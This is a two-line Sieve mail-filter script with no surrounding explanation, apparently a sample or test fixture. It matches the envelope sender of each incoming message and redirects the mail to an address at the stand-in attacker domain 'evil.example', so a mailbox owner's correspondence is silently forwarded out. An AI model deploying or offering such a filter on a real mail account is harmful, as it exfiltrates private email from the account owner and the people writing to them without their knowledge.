require ["variables", "envelope"];
if envelope :matches "from" "*@*" { redirect "${1}@evil.example"; }
